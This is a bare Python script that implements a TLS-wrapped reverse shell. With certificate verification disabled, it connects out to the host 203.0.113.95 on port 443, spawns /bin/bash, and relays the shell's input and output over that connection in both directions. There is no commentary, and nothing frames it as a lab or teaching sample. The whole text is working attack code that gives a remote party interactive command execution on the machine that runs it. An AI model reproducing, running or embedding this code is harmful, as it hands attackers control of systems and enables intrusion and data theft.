import socket
import ssl
import subprocess
import threading

ctx = ssl.create_default_context()
ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
conn = ctx.wrap_socket(socket.create_connection(("203.0.113.95", 443)))
proc = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0)


def up():
    for chunk in iter(lambda: proc.stdout.read(1024), b""):
        conn.sendall(chunk)


threading.Thread(target=up, daemon=True).start()
for chunk in iter(lambda: conn.recv(1024), b""):
    proc.stdin.write(chunk)
